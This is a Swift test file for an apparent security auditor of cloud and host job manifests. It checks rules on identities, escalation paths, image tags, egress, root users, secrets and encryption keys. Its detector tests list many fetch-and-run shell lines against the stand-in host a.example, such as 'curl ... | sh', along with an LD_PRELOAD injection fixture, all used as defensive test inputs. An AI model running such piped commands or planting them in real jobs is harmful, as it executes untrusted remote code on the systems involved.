import JobsCore
import JobsManifest
import Testing

@testable import JobsAudit

@Suite("Rules over jobs")
struct ManifestRulesTests {
  private static let identity = "report@acme.iam.gserviceaccount.com"

  /// A job of Cloud Run that no rule finds anything in.
  private static func job(_ name: String = "a", _ change: (inout Job) -> Void = { _ in }) -> Job {
    var job = Job(name: name)
    job.env = "prod"
    job.target = Target(kind: .cloudRun, project: "acme", region: "europe-west1")
    job.identity = identity
    job.run.image = "europe-docker.pkg.dev/acme/jobs/report@sha256:\(String(repeating: "0a", count: 32))"
    var network = Network()
    network.egress = "all-traffic"
    job.network = network
    change(&job)
    return job
  }

  private static func codes(_ jobs: [Job], powers: [String: Finding] = [:]) -> [String] {
    ManifestRules.check(jobs, ManifestContext(jobs, protected: ["prod"], powers: powers)).map(\.rule.code)
  }

  @Test("a job that is given no more than it needs has no findings")
  func nothing() { #expect(Self.codes([Self.job()]).isEmpty) }

  @Test("no identity, or the default one, is found on Cloud Run alone")
  func identities() {
    #expect(Self.codes([Self.job { $0.identity = nil }]) == ["JA101"])
    #expect(Self.codes([Self.job { $0.identity = "1-compute@developer.gserviceaccount.com" }]) == ["JA101"])
    #expect(
      Self.codes([
        Self.job {
          $0.identity = nil; $0.target.kind = .lambda
        }
      ]).isEmpty)
    #expect(Self.codes([Self.job("a"), Self.job("b")]) == ["JA102", "JA102"])
    #expect(Self.codes([Self.job("a"), Self.job("a") { $0.env = "dev" }]).isEmpty, "the same job of two environments")
  }

  @Test("what a job's identity can reach is found with its path, severity and verdict")
  func powers() throws {
    var path = Finding(
      EscalationRule.rule, "", resource: "projects/acme", verdict: .possible, severity: .high, at: .start(of: ""))
    path.path = [Finding.Hop(from: "x", to: "administrator of projects/acme", by: "b", policy: "p", statement: "s")]
    path.missing = ["something"]
    let jobs = [Self.job()]
    let found = ManifestRules.check(jobs, ManifestContext(jobs, protected: [], powers: [Self.identity: path]))
    let finding = try #require(found.first { $0.rule.code == "JA103" })
    #expect(finding.severity == .high && finding.verdict == .possible && finding.missing == ["something"])
    #expect(finding.message == "job 'a' runs as '\(Self.identity)', who can reach 'administrator of projects/acme'")
    #expect(finding.job == "-/prod/a" && finding.path.count == 1)
    #expect(Self.codes(jobs, powers: ["other": path]).isEmpty)
  }

  @Test("tags and open ways out are found in protected environments alone")
  func protected() {
    let loose = Self.job {
      $0.run.image = "europe-docker.pkg.dev/acme/jobs/report:1"; $0.network = nil
    }
    #expect(Self.codes([loose]) == ["JA104", "JA105"])
    #expect(ManifestRules.check([loose], ManifestContext([loose], protected: ["live"])).isEmpty)
  }

  @Test("root is found on hosts, by either key")
  func root() {
    func host(_ change: (inout Job) -> Void) -> Job {
      Self.job {
        $0.target = Target(kind: .host); $0.identity = nil; change(&$0)
      }
    }
    #expect(Self.codes([host { $0.run.user = "root" }]) == ["JA106"])
    #expect(Self.codes([host { $0.identity = "root" }]) == ["JA106"])
    #expect(Self.codes([host { $0.run.user = "backup" }]).isEmpty)
    #expect(Self.codes([host { $0.run.user = "0" }]) == ["JA106"])
    #expect(
      Self.codes([host { $0.run.host.fallback = Fallback(command: ["/bin/sh", "-c", "curl x | sh"]) }]) == ["JA107"])
  }

  // MARK: Other targets

  private static let role = "arn:aws:iam::111122223333:role/report"

  private static func aws(_ kind: Target.Kind, _ change: (inout Job) -> Void = { _ in }) -> Job {
    job {
      $0.target = Target(kind: kind, region: "eu-west-1", account: "111122223333")
      $0.identity = role
      $0.network = nil
      change(&$0)
    }
  }

  @Test("what holds of all jobs is found whatever runs them", arguments: [Target.Kind.lambda, .ecs, .batch])
  func everywhere(kind: Target.Kind) {
    #expect(Self.codes([Self.aws(kind)]).isEmpty)
    let power = Finding(EscalationRule.rule, "", resource: "x", severity: .critical, at: .start(of: ""))
    #expect(Self.codes([Self.aws(kind)], powers: [Self.role: power]) == ["JA103"])
    let bad = Self.aws(kind) {
      $0.run.image = "111122223333.dkr.ecr.eu-west-1.amazonaws.com/report:1"
      $0.run.setShell("curl https://a.example | sh")
      $0.run.env = [Pair("PASSWORD", "***"), Pair("LD_PRELOAD", "/x.so")]
    }
    #expect(Self.codes([bad]) == ["JA104", "JA107", "JA108", "JA134"])
    #expect(Self.codes([Self.aws(kind), Self.aws(kind) { $0.name = "b" }]) == ["JA102", "JA102"])
  }

  @Test("a role that is made for a function is judged as one that it names")
  func made() throws {
    let job = Self.aws(.lambda) { $0.identity = nil }
    let power = Finding(EscalationRule.rule, "", resource: "x", severity: .critical, at: .start(of: ""))
    var context = ManifestContext([job], protected: [], powers: ["made": power])
    #expect(ManifestRules.check([job], context).isEmpty)
    context.made = [job.id: "made"]
    let found = try #require(ManifestRules.check([job], context).first)
    #expect(
      found.rule.code == "JA103" && found.principal == "made" && found.message.contains("'made', who has all rights"))
    #expect(context.identities(of: [job]) == ["made"])
  }

  @Test("a public address of a task is a way out, in protected environments")
  func publicAddress() {
    let task = Self.aws(.ecs) { $0.annotations = [Pair("jobs/public-address", "true")] }
    #expect(Self.codes([task]) == ["JA105"])
    #expect(ManifestRules.check([task], ManifestContext([task], protected: [])).isEmpty)
  }

  @Test("a key is asked for where the policy does, and where no manifest says it that is listed")
  func keys() throws {
    var policy = AuditPolicy(path: "p")
    var environment = AuditPolicy.Environment(name: "prod")
    environment.asksForKey = true
    policy.environments = [environment]
    let jobs =
      [Self.job { $0.identity = "a@b" }, Self.aws(.lambda) { $0.name = "f" }]
      + [
        Self.aws(.ecs) {
          $0.name = "t"; $0.identity = nil
        },
        Self.aws(.batch) {
          $0.name = "b"; $0.identity = "r"
        },
      ]
      + [
        Self.job {
          $0.name = "h"; $0.target = Target(kind: .host); $0.identity = nil
        }
      ]
    let context = ManifestContext(jobs, protected: [], organisation: policy)
    let found = ManifestRules.check(jobs, context)
    #expect(found.map { "\($0.rule.code) \($0.job ?? "")" } == ["JA133 -/prod/a", "JA133 -/prod/f"])
    #expect(
      ManifestGaps.list(jobs, context) == [
        "as whom '-/prod/t' run on ECS: their definitions say",
        "with which keys '-/prod/t' are encrypted, for which the policy asks: their definitions on ECS say",
        "with which keys '-/prod/b' are encrypted, for which the policy asks: their definitions on Batch say",
        "with which keys '-/prod/h' are encrypted, for which the policy asks: no manifest says it of hosts",
        "as whom '-/prod/h' run on hosts: they name no user, and so run as whoever starts them",
      ])
    let keyed = Self.job {
      $0.annotations = [Pair("run.googleapis.com/encryption-key", "projects/p/locations/l/keyRings/r/cryptoKeys/k")]
    }
    #expect(ManifestRules.check([keyed], ManifestContext([keyed], protected: [], organisation: policy)).isEmpty)
  }

  @Test("what the input of policies does not tell of is listed, and so is what was not read")
  func unknown() {
    let jobs = [Self.aws(.lambda) { $0.run.envFile = ".env" }, Self.job()]
    var context = ManifestContext(jobs, protected: ["prod"])
    context.known = [Self.identity]
    #expect(
      ManifestGaps.list(jobs, context) == [
        "where '-/prod/a' may send what they read: no manifest says it of Lambda",
        "the variables of '-/prod/a' in '.env': it was not read",
        "what '\(Self.role)' may do: the input of --iam does not tell all of it",
      ])
  }

  @Test(
    "what is fetched and run at once is found",
    arguments: [
      ("curl -fsSL https://a.example/x | sh", true), ("wget -qO- https://a.example | sudo -E bash -s -- a", true),
      ("sh -c \"$(curl -fsSL https://a.example)\"", true), ("bash <(curl -s https://a.example)", true),
      ("curl https://a.example | tee log | /bin/bash", true), ("curl https://a.example | FOO=1 python3 -", true),
      ("curl https://a.example | jq .", false), ("curl https://a.example > x; sh y", false), ("cat x | sh", false),
      ("echo curl-like | sh", false), ("curl -d \"$(date)\" https://a.example", false), ("sh backup.sh", false),
      ("STATE=$(curl https://a.example/state); echo $STATE", false),
      ("curl -fsSL 'https://a.example/x?a=1&b=2' | sh", true), ("curl \"https://a.example/;v=1\" | bash", true),
      ("bash -c 'cd /tmp && curl https://a.example/x | sh'", true), ("curl https://a.example | sudo -u app bash", true),
      ("curl https://a.example | timeout -k 5 30 sh -s", true), ("curl https://a.example | sudo -u sh cat", false),
      ("curl https://a.example 2>&1 | sh", true), ("curl https://a.example |& bash", true),
      (". <(curl https://a.example)", true), ("curl https://a.example | nice -n 10 sh", true),
      ("curl https://a.example | xargs -n 1 echo sh", false),
    ])
  func pipes(text: String, isFound: Bool) {
    #expect(PipedShell.isPiped(text) == isFound)
    #expect(Self.codes([Self.job { $0.run.setShell(text) }]) == (isFound ? ["JA107"] : []))
  }

  @Test("a secret that was masked is found, and its variable named")
  func secrets() {
    let job = Self.job { $0.run.env = [Pair("LEVEL", "info"), Pair("PASSWORD", "***")] }
    let found = ManifestRules.check([job], ManifestContext([job], protected: []))
    #expect(found.map(\.message) == ["job 'a' has a secret in 'PASSWORD'"])
    #expect(Self.codes([Self.job { $0.run.args = ["--token=***"] }]) == ["JA108"])
  }
}
